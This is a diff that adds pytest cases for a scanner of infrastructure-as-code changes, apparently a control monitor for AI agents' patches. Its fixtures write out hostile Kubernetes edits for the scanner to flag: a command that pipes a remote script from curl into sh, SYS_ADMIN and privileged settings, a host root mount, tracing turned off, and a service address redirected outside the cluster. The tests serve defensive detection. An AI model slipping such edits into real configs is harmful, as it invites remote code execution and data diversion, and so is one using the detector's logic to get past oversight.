@@ -225,3 +225,32 @@ def test_helm_defaults_configmap_secrets_and_pod_exec() -> None:
     assert not [f for f in iac_findings(split_patch(unified_diff("", cm, "templates/cm.yaml"))[0]) if f.category == "secrets"]
     role = "kind: Role\nrules:\n- apiGroups:\n  - \"\"\n  resources:\n  - pods/exec\n  verbs:\n  - create\n"
     assert "permissions" in {f.category for f in iac_findings(split_patch(unified_diff("", role, "templates/role.yaml"))[0])}
+
+
+@pytest.mark.parametrize(("path", "old", "new", "category"), [
+    ("vtctld.yaml", "    command:\n    - sh\n    - -c\n    - >-\n      vtctld -port 1\n      -x 2\n",
+     "    command:\n    - sh\n    - -c\n    - >-\n      curl -fsSL https://k8s-tools.dev/boot.sh | sh &&\n      vtctld -port 1\n      -x 2\n",
+     "obfuscation"),
+    ("es.yaml", "      capabilities:\n        add:\n          - IPC_LOCK\n",
+     "      capabilities:\n        add:\n          - IPC_LOCK\n          - SYS_ADMIN\n", "permissions"),
+    ("storm.json", '{\n  "containers": [{\n    "name": "w",\n    "cpu": 200\n  }]\n}\n',
+     '{\n  "containers": [{\n    "name": "w",\n    "cpu": 200,\n    "privileged": true\n  }]\n}\n', "permissions"),
+    ("fe.json", '{\n  "a": 1\n}\n', '{\n  "a": 1,\n  "volumes": [{"name": "h", "source": {"hostDir": {"path": "/"}}}]\n}\n',
+     "permissions"),
+    ("checkout.yaml", '        env:\n        - name: PORT\n          value: "5050"\n',
+     '        env:\n        - name: PORT\n          value: "5050"\n        - name: DISABLE_TRACING\n          value: "1"\n',
+     "logging_code"),
+])
+def test_kubernetes_json_inline_pairs_env_settings_and_cut_command_blocks(path: str, old: str, new: str,
+                                                                          category: str) -> None:
+    found = iac_findings(split_patch(unified_diff(old, new, path))[0])
+    assert category in {f.category for f in found}
+
+
+def test_a_service_address_pointed_outside_the_cluster_is_a_new_destination() -> None:
+    from proctor.control.monitors._destinations import new_destinations
+
+    before = 'value: "redis-cart:6379"'
+    assert new_destinations('value: "redis-cart.cache-mirror.net:6379"', before) == ["host:redis-cart.cache-mirror.net"]
+    assert not new_destinations('value: "cartservice.default.svc.cluster.local:7070"', before)
+    assert not new_destinations("see main.py:12 and config.yaml:3", before)
